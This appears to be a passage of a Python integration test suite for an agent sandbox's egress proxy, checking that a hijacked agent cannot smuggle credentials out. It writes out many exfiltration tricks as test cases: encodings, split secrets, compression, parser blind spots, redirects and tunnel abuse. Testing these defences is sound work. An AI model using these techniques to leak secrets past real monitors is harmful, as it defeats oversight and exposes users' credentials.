"""The sidecar looks inside HTTPS: a hijacked agent smuggling a credential out to a host it may reach, in a URL,
a header or a body, over HTTP and HTTPS, plain, base64 or hex, is stopped; ordinary requests, and look-alikes
of secrets, are not. Also: private hosts are reachable on their listed ports only, the egress report cannot
be blinded, and big downloads and passthrough hosts work. Real bottles, the real sidecar."""

import base64
import gzip
import http.server
import json
import os
import secrets
import signal
import socket
import subprocess
import time
import urllib.parse
import uuid
import zlib

from claude_bottle import bottle

from . import support
from .test_sidecar import ALLOWED, Project

AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
PNG_1PX = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000")).decode() * 40  # a small image's base64


class Recorder(support.Server):
    """A host the bottle may reach (a private one, over plain HTTP): records what arrives."""

    def __init__(self):
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_one(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                seen.append((self.path, dict(self.headers), body))
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_GET = do_POST = handle_one

            def log_message(self, *args):
                pass

        super().__init__(Handler)


class BottleCase(support.IntegrationTest):
    """A bottle of its own per test class: a bottle caught smuggling is cut off for a while, which other
    tests must not inherit."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        support.sidecar_image()
        cls.secret = "hs-" + secrets.token_hex(20)
        cls.recorder = Recorder()
        cls.host = support.host_address()
        cls.project = Project({"bottles": {"b": {"env": {"HOST_SECRET": "${HOST_SECRET}"}, "egress": cls.egress()}},
                               "agents": {"a": {"bottle": "b"}}}, {"HOST_SECRET": cls.secret})
        out = cls.project.cli("start", "a", "--yes", "--detach")
        assert out.returncode == 0, out.stderr
        cls.name = out.stdout.strip()

    @classmethod
    def egress(cls) -> dict:
        return {"allowlist": [ALLOWED], "private_hosts": [f"{cls.host}:{cls.recorder.port}"]}

    @classmethod
    def tearDownClass(cls):
        cls.project.cli("stop", cls.name)
        cls.recorder.close()
        cls.project.tmp.cleanup()
        super().tearDownClass()

    def curl(self, url: str, where: str, value: str) -> str:
        """One request from inside the bottle carrying `value` in `where`; returns status and body."""
        args = ["curl", "-sS", "-m", "30", "-o", "/tmp/body", "-w", "%{http_code}"]
        if where == "url":
            url += ("&" if "?" in url else "?") + "q=" + value
        elif where == "header":
            args += ["-H", f"X-Trace-Context: {value}"]
        elif where.startswith("header "):  # a header every client sends, which nothing may skip
            args += ["-H", f"{where.split()[1]}: {value}"]
        else:
            args += ["-H", "Content-Type: application/json", "--data", json.dumps({"note": value})]
        out = self.project.cli("exec", self.name, "--", "sh", "-c",
                               " ".join(f"'{a}'" for a in args) + f" '{url}'; echo; cat /tmp/body")
        return out.stdout + out.stderr

    def targets(self) -> dict[str, str]:
        return {"http": f"http://{self.host}:{self.recorder.port}/upload",
                "https": f"https://{ALLOWED}/upload"}



class CredentialsTest(BottleCase):
    def test_credentials_in_every_place_and_encoding_are_blocked(self):
        credentials = {
            "the bottle's own secret": self.secret,
            "an AWS access key": AWS_KEY,
            "an AWS secret key line": f"aws_secret_access_key={AWS_SECRET}",
        }
        encodings = {"plain": lambda v: v, "base64": lambda v: base64.b64encode(v.encode()).decode(),
                     "hex": lambda v: v.encode().hex(),
                     # The bottle's own secret in the encodings a DLP pattern cannot know but a known value can.
                     "base64 after a prefix": lambda v: base64.b64encode(b"k=" + v.encode()).decode(),
                     "percent-encoded": lambda v: "".join(f"%{b:02X}" for b in v.encode())}
        known_only = ("base64 after a prefix", "percent-encoded")
        for scheme, url in self.targets().items():
            for what, credential in credentials.items():
                for encoding, encode in encodings.items():
                    if encoding in known_only and credential != self.secret:
                        continue
                    for where in ("url", "header", "body", "header User-Agent", "header Accept",
                                  "header Accept-Encoding", "header Content-Type"):
                        if scheme == "https" and where == "header Accept-Encoding":
                            continue  # inside HTTPS pipelock drops it (forcing plain answers it can read): never sent
                        if where == "url" and encoding == "plain" and "=" in credential:
                            continue  # a query string cannot hold it unencoded
                        with self.subTest(scheme=scheme, credential=what, encoding=encoding, where=where):
                            out = self.curl(url, where, encode(credential))
                            self.assertTrue(out.startswith("403"), out)
                            self.assertIn("blocked", out)
        arrived = repr(self.recorder.seen)
        for credential in (self.secret, AWS_KEY, AWS_SECRET):
            for encoding, encode in encodings.items():
                if credential == self.secret or encoding not in known_only:
                    self.assertNotIn(encode(credential), arrived)



class LookAlikesTest(BottleCase):
    def test_ordinary_requests_and_look_alikes_get_through(self):
        look_alikes = {
            "nothing": "hello",
            "a UUID": str(uuid.uuid4()),
            "a git SHA": secrets.token_hex(20),
            "a long hex checksum": secrets.token_hex(32),
            "a base64 image": PNG_1PX,
        }
        for scheme, url in self.targets().items():
            for what, value in look_alikes.items():
                for where in ("url", "header", "body"):
                    if where == "url" and what == "a base64 image":
                        continue  # not a thing anyone puts in a URL
                    with self.subTest(scheme=scheme, value=what, where=where):
                        out = self.curl(url, where, value)
                        self.assertNotIn("blocked", out)
                        status = out.splitlines()[0]
                        if scheme == "http":
                            self.assertEqual(status, "200", out)
                        else:  # the registry answers for itself (404, 405...), never the sidecar's 403
                            self.assertNotEqual(status, "403", out)

    def test_private_hosts_are_reachable_on_their_listed_port_only(self):
        other = Recorder()  # another service of the same host, on another port
        try:
            out = self.project.cli("exec", self.name, "--", "sh", "-c",
                                   f"curl -sS -m 10 -w ' %{{http_code}}' http://{self.host}:{other.port}/; echo; "
                                   f"curl -sS -m 10 -p -x $HTTPS_PROXY http://{self.host}:{other.port}/ 2>&1; echo; "
                                   f"curl -sS -m 10 http://{self.host}:{self.recorder.port}/fine")
            self.assertIn(f"port {other.port} of private host {self.host} is not allowed", out.stdout, out.stderr)
            self.assertIn(" 403", out.stdout)
            self.assertIn("CONNECT tunnel failed, response 403", out.stdout)
            self.assertTrue(out.stdout.endswith("ok"), out.stdout)
            self.assertEqual(other.seen, [])
            report = json.loads(self.project.cli("logs", self.name, "--egress", "--json").stdout)
            self.assertIn(f"{self.host}:{other.port}", [r["host"] for r in report if r["decision"] == "blocked"])
        finally:
            other.close()



class FollowTest(BottleCase):
    def test_egress_follow_prints_each_change_until_the_bottle_ends(self):
        follow = subprocess.Popen(self.project.argv("logs", self.name, "--egress", "-f", "--json"),
                                  cwd=self.project.dir, env=self.project.env, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True)
        try:
            time.sleep(2)
            self.curl(f"https://{ALLOWED}/followed", "url", "fine")
            self.curl("https://not-allowed.example/followed", "url", "fine")
            lines = []
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline and not {ALLOWED, "not-allowed.example"} <= {l["host"] for l in lines}:
                lines.append(json.loads(follow.stdout.readline()))
            by_host = {l["host"]: l for l in lines}
            self.assertEqual((by_host[ALLOWED]["decision"], by_host[ALLOWED]["new"]), ("allowed", 1))
            self.assertEqual(by_host["not-allowed.example"]["decision"], "blocked")
            self.assertIsNone(follow.poll())  # still following
        finally:
            follow.kill()
            follow.communicate()

    def test_tail_and_since_do_not_go_with_egress(self):
        out = self.project.cli("logs", self.name, "--egress", "--tail", "5")
        self.assertEqual(out.returncode, 2)
        self.assertIn("--tail and --since do not go with --egress", out.stderr)


class FloodTest(BottleCase):
    def test_a_flood_cannot_blind_the_egress_report(self):
        flood = 6000
        script = (
            "const http = require('http'); let next = 0, done = 0;"
            f"const total = {flood};"
            "function one() { if (next >= total) return; const i = next++;"
            " const r = http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: `h${i}.flood.example:443`});"
            " r.on('connect', (res, s) => { s.destroy(); fin(); }); r.on('response', () => fin()); r.on('error', () => fin()); r.end(); }"
            "function fin() { done++; if (done === total) console.log('sent', done); else one(); }"
            "for (let k = 0; k < 16; k++) one();"
        )
        out = self.project.cli("exec", self.name, "--", "node", "-e", script, timeout=600)
        self.assertIn(f"sent {flood}", out.stdout, out.stderr)
        for _ in range(3):
            self.curl(f"https://{ALLOWED}/after-the-flood", "url", "fine")
        report = self.project.cli("logs", self.name, "--egress")
        self.assertIn("counted together under (other hosts)", report.stdout)
        rows = json.loads(self.project.cli("logs", self.name, "--egress", "--json").stdout)
        blocked = sum(r["count"] for r in rows if r["decision"] == "blocked" and
                      (r["host"].endswith(".flood.example") or r["host"] == "(other hosts)"))
        self.assertEqual(blocked, flood)
        self.assertTrue(any(r["host"] == ALLOWED and r["decision"] == "allowed" for r in rows))


SEND_ON = """
import os, socket, sys
host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/").rsplit(":", 1)
target, url, after_answer = sys.argv[1], sys.argv[2], sys.argv[3] == "after"
s = socket.create_connection((host, int(port)))
connect = f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode()
request = f"GET {url} HTTP/1.1\\r\\nHost: {url.split('/')[2]}\\r\\n\\r\\n".encode()
s.settimeout(15)
if after_answer:
    s.sendall(connect)
    answer = s.recv(4096)
    s.sendall(request)
else:
    s.sendall(connect + request)
    answer = b""
try:
    while data := s.recv(4096):
        answer += data
except OSError:
    pass
print(answer.decode(errors="replace"))
"""


class RefusedTunnelTest(BottleCase):
    """A hijacked agent that sends a request on in a tunnel pipelock then refuses must not have pipelock read
    it as a request of its own, one the gate never read: not when it sends it at once behind its CONNECT,
    and not after the gate told it to go ahead (a tunnel to a passthrough host pipelock let through before,
    whose bytes go to pipelock before its answer). Here pipelock refuses because the server's port is
    closed (its dial fails), once before any tunnel to it and once after one."""

    @classmethod
    def egress(cls) -> dict:
        return {"private_hosts": [cls.host], "passthrough": [cls.host]}

    def send_on(self, port: int, when: str) -> tuple[str, str]:
        """(what the bottle read, the path of the request it sent on)."""
        path = f"/sent-on-{uuid.uuid4().hex}"
        out = self.project.cli("exec", self.name, "--", "python3", "-c", SEND_ON, f"{self.host}:{port}",
                               f"http://{self.host}:{self.recorder.port}{path}", when)
        return out.stdout, path

    def arrived(self, path: str) -> bool:
        time.sleep(1)
        return any(seen[0] == path for seen in self.recorder.seen)

    def test_a_request_sent_on_in_a_refused_tunnel_does_not_arrive(self):
        closed = socket.create_server(("0.0.0.0", 0))
        port = closed.getsockname()[1]
        closed.close()
        answer, path = self.send_on(port, "at-once")
        self.assertRegex(answer, r"^HTTP/1.1 (403|502)", "pipelock's refusal, as it was")
        self.assertNotIn("200 OK", answer)
        self.assertFalse(self.arrived(path), "sent behind a CONNECT pipelock refused")

        listening = socket.create_server(("0.0.0.0", 0), backlog=16)
        port = listening.getsockname()[1]
        answer, _ = self.send_on(port, "after")
        self.assertIn("200", answer.splitlines()[0], "the first tunnel: pipelock lets it through")
        listening.close()
        answer, path = self.send_on(port, "after")
        self.assertTrue(answer.startswith("HTTP/1.1 200"), f"the gate's go-ahead: {answer!r}")
        self.assertNotIn("200 OK", answer)
        self.assertFalse(self.arrived(path), "sent after the go-ahead, in a tunnel pipelock then refused")

        control = self.project.cli("exec", self.name, "--", "curl", "-sS", "-m", "30",
                                   f"http://{self.host}:{self.recorder.port}/control")
        self.assertEqual(control.stdout, "ok", control.stderr)
        self.assertTrue(self.arrived("/control"))


class Redirector(support.Server):
    """An allowed service that sends its client elsewhere: /to/KEY answers 302 to what `to[KEY]` says (set by
    the test, so that the request does not name it), /to307/KEY 307 (the method and body go along)."""

    def __init__(self):
        to = self.to = {}

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_one(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                _, kind, key = self.path.split("/", 2)
                self.send_response(307 if kind == "to307" else 302)
                self.send_header("Location", to[key])
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = handle_one

            def log_message(self, *args):
                pass

        super().__init__(Handler)


class RedirectTest(BottleCase):
    """Found by attacking it: over plain HTTP pipelock follows a redirect itself, checking the host it leads
    to and not the port, so a service on a private host's listed port that redirects where it is told (an
    open redirect) reached the host's other ports."""

    @classmethod
    def egress(cls) -> dict:
        cls.redirector = Redirector()
        cls.addClassCleanup(cls.redirector.close)
        return {"private_hosts": [f"{cls.host}:{cls.recorder.port}", f"{cls.host}:{cls.redirector.port}"]}

    def curl(self, *args: str) -> str:
        out = self.project.cli("exec", self.name, "--", "curl", "-sS", "-m", "30", "-w", " %{http_code}", *args)
        return out.stdout + out.stderr

    def test_a_redirect_reaches_no_port_the_manifest_does_not_list(self):
        other = Recorder()  # another service of the same host, on a port not listed
        self.addCleanup(other.close)
        start = f"http://{self.host}:{self.redirector.port}"
        for where in (f"http://{self.host}:{other.port}/a", f"http://u@{self.host.upper()}.:0{other.port}/b",
                      f"http://{self.host}/c"):
            key = uuid.uuid4().hex
            self.redirector.to[key] = where
            for kind, method in (("to", "GET"), ("to307", "POST")):
                with self.subTest(where=where, kind=kind):
                    out = self.curl("-X", method, "--data-binary", "x", f"{start}/{kind}/{key}")
                    self.assertTrue(out.endswith(" 403"), out)
                    self.assertIn("redirect blocked", out)
            with self.subTest(where=where, kind="named in the request"):  # steering the service there
                out = self.curl(f"{start}/to/{key}?next={urllib.parse.quote(where)}")
                self.assertTrue(out.endswith(" 403"), out)
        self.assertEqual(other.seen, [])
        # To the port that is listed, a redirect is followed as before.
        key = uuid.uuid4().hex
        self.redirector.to[key] = f"http://{self.host}:{self.recorder.port}/followed"
        self.assertEqual(self.curl(f"{start}/to/{key}"), "ok 200")
        self.assertIn("/followed", [seen[0] for seen in self.recorder.seen])


class RawRecorder(support.Server):
    """A host the bottle may reach: records every byte of each request as it arrives (a request line, headers, a
    body of Content-Length or chunks and trailers), then answers 200."""

    def __init__(self):
        received = self.received = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle(self):
                data = b""
                self.request.settimeout(10)
                try:
                    while b"\r\n\r\n" not in data:
                        data += self.request.recv(65536) or b"!"
                    head, _, body = data.partition(b"\r\n\r\n")
                    length = next((int(line.split(b":", 1)[1]) for line in head.split(b"\r\n")
                                   if line.lower().startswith(b"content-length:")), None)
                    chunked = b"chunked" in head.lower()
                    while (len(body) < length if length is not None else
                           chunked and not (b"\r\n0\r\n" in b"\r\n" + body and body.endswith(b"\r\n\r\n"))):
                        body += self.request.recv(65536) or b"!"
                    data = head + b"\r\n\r\n" + body
                except (OSError, ValueError):
                    pass
                received.append(data)
                self.request.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")

        super().__init__(Handler)


# Run in the bottle: each case is a sequence of raw requests (method, target, headers and body as text, with {S}
# for the secret in the bottle's env variable the case names, {T} for the target, {H} for the Host and {L} for
# the body's length), sent to the recorder over inspected HTTPS (through a CONNECT tunnel, with TLS) or plain
# HTTP, one connection each; prints each answer's status line.
SEND_SEQUENCES = r"""
import json, os, socket, ssl, sys
host, http_port, https_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
for case in json.loads(sys.stdin.read()):
    secret = os.environ[case["secret"]].encode()
    for number, raw in enumerate(case["requests"]):
        raw = raw.encode().replace(b"{S}", secret)
        head, _, body = raw.partition(b"\r\n\r\n")
        if case.get("body") == "gzip":
            import gzip
            body = gzip.compress(body)
        raw = head.replace(b"{L}", str(len(body)).encode()) + b"\r\n\r\n" + body
        port = https_port if case["scheme"] == "https" else http_port
        s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
        try:
            if case["scheme"] == "https":
                s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
                reply = s.recv(4096)
                if not reply.startswith(b"HTTP/1.1 200"):
                    print(case["name"], number, reply.split(b"\r\n")[0].decode())
                    continue
                s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
                target = b"/"
            else:
                target = f"http://{host}:{port}/".encode()
            s.sendall(raw.replace(b"{T}", target).replace(b"{H}", f"{host}:{port}".encode()))
            answer = b""
            while b"\r\n" not in answer:
                chunk = s.recv(4096)
                if not chunk:
                    break
                answer += chunk
            print(case["name"], number, answer.split(b"\r\n")[0].decode() or "closed")
        except OSError as e:
            print(case["name"], number, "error", type(e).__name__)
        finally:
            s.close()
"""


def _get(target: str, header: str = "") -> str:
    return f"GET {{T}}{target} HTTP/1.1\r\nHost: {{H}}\r\n{header}Connection: close\r\n\r\n"


def _post(content_type: str, body: str, extra: str = "") -> str:
    return (f"POST {{T}} HTTP/1.1\r\nHost: {{H}}\r\nContent-Type: {content_type}\r\n{extra}"
            f"Content-Length: {{L}}\r\nConnection: close\r\n\r\n{body}")


class RecordedBottleCase(support.IntegrationTest):
    """A bottle of its own with the class's secrets (SECRETS: name to value), and two hosts it may reach that
    record every byte that arrives: one over HTTPS (the sidecar inspects it), one over plain HTTP."""

    SECRETS: dict[str, str] = {}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        support.sidecar_image()
        cls.ca = support.TestCA()
        cls.tls = cls.ca.wrap(RawRecorder())
        cls.plain = RawRecorder()
        cls.host = support.host_address()
        cls.project = Project({"bottles": {"b": {
            "env": {name: "${" + name + "}" for name in cls.SECRETS},
            "egress": {"private_hosts": [f"{cls.host}:{cls.tls.port}", f"{cls.host}:{cls.plain.port}"],
                       "ca_cert": str(cls.ca.cert)}}},
            "agents": {"a": {"bottle": "b"}}}, cls.SECRETS)
        out = cls.project.cli("start", "a", "--yes", "--detach")
        assert out.returncode == 0, out.stderr
        cls.name = out.stdout.strip()

    @classmethod
    def tearDownClass(cls):
        cls.project.cli("stop", cls.name)
        cls.tls.close()
        cls.plain.close()
        cls.ca.close()
        cls.project.tmp.cleanup()
        super().tearDownClass()

    def send(self, cases: list[dict]) -> dict[tuple[str, int], str]:
        """Each case's requests (SEND_SEQUENCES) from inside the bottle: each answer's status line by (case
        name, request number)."""
        out = self.project.cli("exec", self.name, "--", "python3", "-c", SEND_SEQUENCES, self.host,
                               str(self.plain.port), str(self.tls.port), input=json.dumps(cases), timeout=300)
        self.assertEqual(out.returncode, 0, out.stderr)
        return {(line.split(" ", 2)[0], int(line.split(" ", 2)[1])): line.split(" ", 2)[2]
                for line in out.stdout.splitlines()}

    def arrived(self) -> bytes:
        return b"".join(self.tls.received + self.plain.received)


class WhatParsersSkipTest(RecordedBottleCase):
    """A secret where pipelock's parsers do not look (it scans the fields it picks out of a JSON, form or
    multipart body, and forwards the raw bytes), in the method, a header's name or a trailer: found by attacking
    the sidecar, over inspected HTTPS and plain HTTP. None of it may arrive; a clean request does, whole."""

    SECRETS = {"HOST_SECRET": "Zq8" + secrets.token_hex(16) + "PxW"}  # mixed case: a header name loses it

    def send_both(self, cases: dict[str, str]) -> dict[tuple[str, str], str]:
        """Each request over inspected HTTPS and over plain HTTP: its status line by (name, scheme)."""
        answers = self.send([{"name": f"{name}/{scheme}", "secret": "HOST_SECRET", "scheme": scheme,
                              "requests": [raw]} for name, raw in cases.items() for scheme in ("http", "https")])
        return {tuple(name.rsplit("/", 1)): status for (name, _), status in answers.items()}

    def test_a_secret_where_no_parser_looks_does_not_leave(self):
        def post(content_type: str, body: str, extra: str = "") -> str:
            return (f"POST {{T}} HTTP/1.1\r\nHost: {{H}}\r\nContent-Type: {content_type}\r\n{extra}"
                    f"Content-Length: {{L}}\r\nConnection: close\r\n\r\n{body}")

        part = 'Content-Disposition: form-data; name="x"\r\n\r\nv\r\n'
        multipart = "multipart/form-data; boundary=bnd"
        cases = {
            "json-duplicate-key": post("application/json", '{"a":"{S}","a":"x"}'),
            "json-70-deep": post("application/json", "[" * 70 + '"{S}"' + "]" * 70),
            "multipart-preamble": post(multipart, "{S}\r\n--bnd\r\n" + part + "--bnd--\r\n"),
            "multipart-epilogue": post(multipart, "--bnd\r\n" + part + "--bnd--\r\n{S}"),
            "multipart-header-name": post(multipart, "--bnd\r\n{S}: 1\r\n" + part + "--bnd--\r\n"),
            "method": "{S} {T} HTTP/1.1\r\nHost: {H}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            "header-name": "GET {T} HTTP/1.1\r\nHost: {H}\r\nX-{S}: 1\r\nConnection: close\r\n\r\n",
            "trailer": ("POST {T} HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nTrailer: X-Leak\r\n"
                        "Connection: close\r\n\r\n5\r\nhello\r\n0\r\nX-Leak: {S}\r\n\r\n"),
        }
        answers = self.send_both(cases)
        for name in cases:
            if name == "trailer":
                continue  # dropped on the way (below): no scanner reads trailers, and nothing needs them
            for scheme in ("http", "https"):
                with self.subTest(name, scheme=scheme):
                    self.assertNotIn(" 200 ", answers.get((name, scheme), "") + " ", answers)
        arrived = self.arrived().lower()
        self.assertNotIn(self.SECRETS["HOST_SECRET"].lower().encode(), arrived)
        self.assertNotIn(b"x-leak", arrived)

    def test_a_clean_request_arrives_whole(self):
        body = '{"a":"b","a":"c","note":"' + "x" * 100_000 + '"}'
        raw = (f"POST {{T}} HTTP/1.1\r\nHost: {{H}}\r\nContent-Type: application/json\r\n"
               f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}")
        before = len(self.tls.received), len(self.plain.received)
        answers = self.send_both({"clean": raw})
        self.assertEqual(answers, {("clean", "http"): "HTTP/1.1 200 OK", ("clean", "https"): "HTTP/1.1 200 OK"})
        for server, n in zip((self.tls, self.plain), before):
            got = server.received[n:]
            self.assertEqual(len(got), 1)
            self.assertTrue(got[0].endswith(body.encode()), got[0][:300])


class SmugglingTest(RecordedBottleCase):
    """A hijacked agent that knows what the scanners look for: the secret in pieces over several requests (in
    any order, with other requests between, in the path, headers and body), or in an encoding other than the
    ones pipelock decodes, put where only the gate reads (a duplicated JSON key, a multipart preamble), or in a
    body declared compressed the way pipelock does not read. None of it may arrive whole; the pieces before the
    last one do arrive (the refusal is the secret's, not the bottle's)."""

    # case: (scheme, the thirds of the secret in the order sent (None: an ordinary request), each one's encoding)
    PIECES = {
        "reversed": ("https", [2, 1, 0], "plain"),
        "with-others-between": ("https", [0, None, None, 2, None, 1], "plain"),
        "plain-http-reversed": ("http", [1, 0, 2], "plain"),
        "each-encoded-its-own-way": ("https", [1, 2, 0], ["base64", "hex", "base64url"]),
        "each-in-padded-base64": ("http", [0, 1, 2], ["base64", "base64", "base64"]),
    }
    ENCODE = {"plain": lambda p: p, "hex": lambda p: p.encode().hex(),
              "base64": lambda p: base64.b64encode(p.encode()).decode(),
              "base64url": lambda p: base64.urlsafe_b64encode(p.encode()).decode().rstrip("=")}
    # Characters an encoder escapes, as in an AWS secret key, and both cases.
    SECRETS = {name: f"Kx7/{secrets.token_hex(10)}+Qz={secrets.token_hex(8)}"
               for name in ["SECRET_WHOLE"] + [f"SECRET_{i}" for i in range(len(PIECES))]}

    def test_a_secret_in_pieces_does_not_arrive_whole(self):
        cases = []
        for index, (name, (scheme, order, encodings)) in enumerate(self.PIECES.items()):
            secret = self.SECRETS[f"SECRET_{index}"]
            third = len(secret) // 3
            cuts = [secret[:third], secret[third:2 * third], secret[2 * third:]]
            if encodings != "plain":
                cuts = [self.ENCODE[how](cuts[piece]) for piece, how in sorted(zip(order, encodings))]
            places = [lambda p: _get("p?page=" + p.replace("/", "%2F").replace("+", "%2B").replace("=", "%3D")),
                      lambda p: _get("x", f"X-Request-Id: {p}\r\n"),
                      lambda p: _post("application/json", json.dumps({"note": p}))]
            requests = [places[i % 3](cuts[piece]) if piece is not None else _get("ordinary?page=2")
                        for i, piece in enumerate(order)]
            cases.append({"name": name, "secret": f"SECRET_{index}", "scheme": scheme, "requests": requests})
        answers = self.send(cases)
        arrived = self.arrived()
        for index, case in enumerate(cases):
            order = self.PIECES[case["name"]][1]
            last = max(i for i, piece in enumerate(order) if piece is not None)
            for number in range(len(order)):
                with self.subTest(case["name"], request=number):
                    status = answers.get((case["name"], number), "")
                    if number == last:
                        self.assertIn(" 403 ", status + " ", answers)
                    else:
                        self.assertIn(" 200 ", status + " ", answers)
            secret = self.SECRETS[f"SECRET_{index}"]
            third = len(secret) // 3
            last_piece = [secret[:third], secret[third:2 * third], secret[2 * third:]][order[last]]
            encodings = self.PIECES[case["name"]][2]
            if encodings != "plain":
                last_piece = self.ENCODE[encodings[last]](last_piece)
            decoded = arrived.replace(b"%2F", b"/").replace(b"%2B", b"+").replace(b"%3D", b"=")
            self.assertFalse(last_piece.encode() in decoded, f"{case['name']}: the last piece arrived")

    def test_a_secret_in_an_encoding_pipelock_does_not_decode_does_not_arrive(self):
        secret = self.SECRETS["SECRET_WHOLE"]
        raw = secret.encode()
        hex_form = raw.hex()
        b64 = base64.b64encode(raw).decode()
        multipart = "multipart/form-data; boundary=bnd"
        part = 'Content-Disposition: form-data; name="x"\r\n\r\nv\r\n--bnd--\r\n'
        encoded = {
            "encodeURIComponent": urllib.parse.quote(secret, safe=""),
            "hex-colons": ":".join(hex_form[i:i + 2] for i in range(0, len(hex_form), 2)),
            "hex-backslash-x": "".join(f"\\x{b:02x}" for b in raw),
            "base64-wrapped": "\n".join(b64[i:i + 12] for i in range(0, len(b64), 12)),
            "base64-dots": ".".join(b64[i:i + 5] for i in range(0, len(b64), 5)),
            "fullwidth": "".join(chr(ord(c) + 0xFEE0) for c in secret),
            "json-u-escapes": "".join(f"\\u{ord(c):04x}" for c in secret),
            "base32-after-prefix": base64.b32encode(b"key=" + raw).decode(),
            "base32hex": base64.b32hexencode(b"k" + raw).decode().lower(),
            "octal-escapes": "".join(f"\\{b:03o}" for b in raw),
            "references-without-semicolons": "".join(f"&#{b}" for b in raw),
            "byte-array": json.dumps({"type": "Buffer", "data": list(raw)}),
            "tag-characters": "".join(chr(0xE0000 + b) for b in raw),
            # Further apart than any hold-back: only a body can carry it.
            "spread-out": "".join(c + " " * 10_000 for c in secret),
        }
        cases = []
        for name, form in encoded.items():
            # Where only the gate reads: the first of a duplicated JSON key, and a multipart preamble.
            for where, request in {
                    "dup-key": _post("application/json", json.dumps({"a": form, "b": 1}, ensure_ascii=False)[:-1] + ', "a": "x"}'),
                    "preamble": _post(multipart, form + "\r\n--bnd\r\n" + part),
                    "header": _get("x", f"X-Note: {form.replace(chr(10), ' ')}\r\n")}.items():
                if where == "header" and len(form) > 8000:
                    continue
                for scheme in ("https", "http"):
                    cases.append({"name": f"{name}/{where}/{scheme}", "secret": "SECRET_WHOLE", "scheme": scheme,
                                  "requests": [request]})
        for scheme in ("https", "http"):
            cases.append({"name": f"identity-then-gzip/{scheme}", "secret": "SECRET_WHOLE", "scheme": scheme,
                          "body": "gzip", "requests": [_post("text/plain", "{S}", "Content-Encoding: identity\r\n"
                                                                                  "Content-Encoding: gzip\r\n")]})
        answers = self.send(cases)
        for case in cases:
            with self.subTest(case["name"]):
                self.assertNotIn(" 200 ", answers.get((case["name"], 0), "") + " ", answers)
        # A body refused on the way may leave its headers sent ahead of it, never a byte of the body.
        arrived = self.arrived().lower()
        for name, form in encoded.items():
            if name == "spread-out":
                continue  # refused before its last characters, once the rest would be too few to matter
            with self.subTest(name):
                self.assertFalse(form.lower().encode()[:12] in arrived, "it arrived")
        self.assertFalse(secret.lower().encode() in arrived, "the secret arrived")


# Run in the bottle: the secret in $SECRET compressed in each way a hijacked agent has at hand, sent as a body
# with nothing to say it is compressed (no Content-Encoding), with curl, to each URL given; prints "form url
# status" for each.
SEND_COMPRESSED = r"""
import base64, bz2, gzip, io, lzma, os, random, subprocess, sys, zipfile, zlib
secret = os.environ["SECRET"].encode()
noise = base64.b64encode(os.urandom(1 << 20))  # compresses poorly: the secret comes long after its header
vocabulary = [os.urandom(4).hex()[:random.randint(3, 8)] for _ in range(3000)]
words = " ".join(random.choice(vocabulary) for _ in range(120_000)).encode()  # compresses well

def zipped(data):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("notes.txt", data)
    return out.getvalue()

def raw_deflate(data, wbits=-15):
    c = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return c.compress(data) + c.flush()

forms = {
    "gzip-command": subprocess.run(["gzip", "-c"], input=b"key=" + secret, capture_output=True).stdout,
    "gzip-after-1-MB": subprocess.run(["gzip", "-c"], input=noise + secret, capture_output=True).stdout,
    "zlib": zlib.compress(secret),
    "raw-deflate": raw_deflate(secret),
    "bzip2": bz2.compress(secret),
    "zip": zipped(b"token: " + secret),
    "xz": lzma.compress(b"nothing secret at all"),
    "lzma-alone": lzma.compress(b"nothing secret at all", format=lzma.FORMAT_ALONE),
    "base64-of-gzip-in-json": b'{"data": "' + base64.b64encode(zlib.compress(secret)) + b'"}',
    # Found by attacking it: a long stream of text that compresses well, hex-encoded or inside another, and
    # zlib with a small window.
    "hex-of-a-long-gzip": gzip.compress(words + secret).hex().encode(),
    "gzip-in-gzip": gzip.compress(gzip.compress(words + secret)),
    "zlib-small-window": raw_deflate(secret, wbits=9),
}
for name, body in forms.items():
    for url in sys.argv[1:]:
        status = subprocess.run(["curl", "-sS", "-m", "60", "-o", "/dev/null", "-w", "%{http_code}",
                                 "-H", "Content-Type: application/octet-stream", "--data-binary", "@-", url],
                                input=body, capture_output=True).stdout.decode()
        print(name, url, status)
"""


class CompressedTest(RecordedBottleCase):
    """A hijacked agent compresses a secret (gzip, zlib, raw deflate, bzip2, a zip; base64 of it in JSON) and sends
    it as an ordinary body, with no Content-Encoding to say so, over inspected HTTPS and plain HTTP: the sidecar
    reads what it inflates to, and none of it arrives. Data in a format it cannot read (xz) is refused. The same
    data with no secret in it arrives whole."""

    SECRETS = {"SECRET": "Kx7" + secrets.token_hex(16) + "Qz"}

    def test_a_compressed_secret_does_not_leave(self):
        urls = [f"https://{self.host}:{self.tls.port}/", f"http://{self.host}:{self.plain.port}/"]
        out = self.project.cli("exec", self.name, "--", "python3", "-c", SEND_COMPRESSED, *urls, timeout=600)
